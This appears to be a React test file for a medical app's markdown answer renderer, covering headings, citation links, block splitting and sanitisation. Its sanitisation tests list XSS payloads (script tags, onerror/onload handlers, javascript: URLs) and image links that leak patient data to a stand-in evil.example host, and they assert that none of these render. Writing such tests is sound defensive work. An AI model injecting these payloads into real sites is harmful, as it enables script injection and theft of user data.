import { render } from '@testing-library/react';
import Markdown from 'react-markdown';
import remarkGfm from 'remark-gfm';
import type { Assessment } from '#contract/tools/diagnosis/assessment';
import { Answer } from '#web/ui/answer';
import { sectionsOf } from '#web/ui/answer-sections';
import { citingOf } from '#web/ui/assessment/citing';
import { blocksOf, longList } from '#web/ui/blocks';
import { lineBreaks } from '#web/ui/line-breaks';
import { fc } from '../support/properties';

const shown = (markdown: string) => render(<Answer markdown={markdown} lang="en" />).container;

describe('an answer', () => {
  it('is a document: headings, lists, tables', () => {
    const page = shown('# Fever\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |');
    expect(page.querySelector('h1')).toBeNull(); // the screen has its own
    expect(page.querySelector('h2')).toHaveTextContent('Fever');
    expect(page.querySelectorAll('li')).toHaveLength(2);
    expect(page.querySelectorAll('td')).toHaveLength(2);
  });

  it('keeps the lines of a danger sign apart', () => {
    const page = shown('- **Sepsis** (fever)\n  Now: antibiotics\n  _Source: WHO_');
    expect(page.querySelectorAll('li br')).toHaveLength(2);
    expect(page.querySelector('li em')).toHaveTextContent('Source: WHO');
  });

  it('shows the facts that it cites as the numbers of their sources, as links', () => {
    const source = (id: string, url?: string) => ({
      id,
      title: id,
      publisher: 'WHO',
      year: 2023,
      place: '',
      ...(url && { url }),
    });
    const cited = {
      dangers: [{ sources: [source('who', 'https://www.who.int/x')] }],
      candidates: [{ sources: [source('paper')] }],
      orders: [],
    } as unknown as Assessment;
    const { container: page } = render(
      <Answer markdown="Sepsis [D1], dengue [C1, C9] and [note] [T1]." lang="en" citing={citingOf(cited)} />,
    );
    const links = [...page.querySelectorAll('a')];
    expect(links.map((link) => [link.getAttribute('href'), link.textContent])).toEqual([
      ['https://www.who.int/x', '[1]'],
    ]);
    expect(page).toHaveTextContent('[2]');
    expect(page.textContent).not.toMatch(/\b[CDT]\d/);
    expect(page).toHaveTextContent('[note]');
    expect(shown('Sepsis [D1].')).toHaveTextContent('Sepsis [D1].'); // where nothing is known of it
  });

  it.each([
    ['a script', '<script>alert(1)</script>'],
    ['an event handler', '<div onclick="alert(1)">x</div>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a style', '<style>body{display:none}</style>'],
    ['a form', '<form action="https://evil.example"><input></form>'],
    ['a drawing', '<svg onload="alert(1)"></svg>'],
    ['an image in markup', '<img src=x onerror=alert(1)>'],
    ['a remote image', '![x](https://evil.example/leak?d=patient)'],
    ['an image by reference', '![x][r]\n\n[r]: https://evil.example/leak'],
    ['an image inside a link', '[![x](https://evil.example/i.png)](https://ok.example)'],
  ])('never renders %s', (_, markdown) => {
    const page = shown(`Before\n\n${markdown}\n\nAfter`);
    expect(
      page.querySelector('script,iframe,style,form,input,svg,img,object,embed,[onclick],[onerror],[onload]'),
    ).toBeNull();
    expect(page).toHaveTextContent(/Before[\s\S]*After/);
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '//evil.example',
    '/auth',
    'http://plain.example',
  ])('shows a link to %s as plain words', (address) => {
    const page = shown(`[the guideline](<${address}>)`);
    expect(page.querySelector('a')).toBeNull();
    expect(page).toHaveTextContent('the guideline');
  });

  it('says where a link would lead, and leads nowhere', () => {
    const page = shown('[source](https://www.who.int/x?patient=words) and www.who.int/y');
    expect(page.querySelector('a')).toBeNull();
    expect(page).toHaveTextContent('source (www.who.int) and www.who.int/y');
  });
});

describe('the blocks of an answer', () => {
  it('are cut at blank lines', () => {
    expect(blocksOf('## A\n\ntext\nmore\n\n\n## B')).toEqual(['## A', 'text\nmore', '## B']);
  });

  it('keep fenced code, loose lists and indented lines whole', () => {
    const code = '```\na\n\nb\n```';
    const list = '1. one\n\n2. two\n\n   more of two\n\n3. three';
    expect(blocksOf(`${code}\n\n${list}\n\nend`)).toEqual([code, list, 'end']);
  });

  it('only ever grow at the end: what was cut before stays as it was', () => {
    const line = fc.constantFrom(
      '## H',
      'text',
      '- item',
      '  more',
      '',
      '',
      '```',
      '| a |',
      '1. x',
      '> quote',
    );
    fc.assert(
      fc.property(fc.array(line, { maxLength: 30 }), (lines) => {
        const whole = blocksOf(lines.join('\n'));
        const part = blocksOf(lines.slice(0, Math.floor(lines.length / 2)).join('\n'));
        expect(whole.slice(0, Math.max(0, part.length - 1))).toEqual(part.slice(0, -1));
      }),
    );
  });

  it('lose no line of text', () => {
    const line = fc.constantFrom('## H', 'text', '- item', '  more', '', '~~~', '1. x');
    fc.assert(
      fc.property(fc.array(line, { maxLength: 30 }), (lines) => {
        const kept = (text: string) => text.split('\n').filter((each) => each.trim() !== '');
        expect(kept(blocksOf(lines.join('\n')).join('\n\n'))).toEqual(kept(lines.join('\n')));
      }),
    );
  });

  it('cut a long list between its entries, and draw it as the parser reads it whole', () => {
    const tight = (html: string) => html.replace(/>\s+</g, '><').replace(/\s+/g, ' ').trim();
    const whole = (list: string) =>
      render(<Markdown remarkPlugins={[remarkGfm, lineBreaks]}>{list}</Markdown>).container.innerHTML;
    const drawn = (list: string) => tight(shown(list).querySelector('.answer > div')?.innerHTML ?? '');
    const line = fc.constantFrom(
      ...[
        '- entry of **weight**',
        '- [ ] task',
        '  more',
        '  - within',
        '  1. first',
        '    deeper',
        '* other',
        '- - both',
      ],
      ...[
        '1. one',
        '2) two',
        '3. three',
        '10. ten',
        '   - within',
        '- ---',
        '* * *',
        '| a |',
        '> quote',
        '```',
        '---',
        '',
      ],
    );
    const long = { minLength: 9, maxLength: 24 };
    const ofOneKind = fc.array(
      fc.constantFrom('- entry', '- **two** words', '  - within', '  more', '- last\n  1. a\n  2. b'),
      long,
    );
    let cut = 0;
    fc.assert(
      fc.property(fc.oneof(ofOneKind, fc.array(line, long)), (lines) => {
        for (const block of blocksOf(lines.join('\n'))) {
          if (!longList(block)) continue;
          cut += 1;
          expect(drawn(block)).toBe(tight(whole(block)));
        }
      }),
    );
    expect(cut).toBeGreaterThan(0);
    const numbered = ['8. a', ...Array.from({ length: 9 }, (_, at) => `${at + 9}. b\n    - within`)].join(
      '\n',
    );
    expect(longList(numbered)?.pieces).toHaveLength(2);
    expect(drawn(numbered)).toBe(tight(whole(numbered)));
  });

  it('name the sections to jump to', () => {
    expect(sectionsOf('## **Danger** signs\n\nx\n\n### Not this\n\n## Next ##')).toEqual([
      { id: 'part-0', title: 'Danger signs' },
      { id: 'part-3', title: 'Next' },
    ]);
  });
});
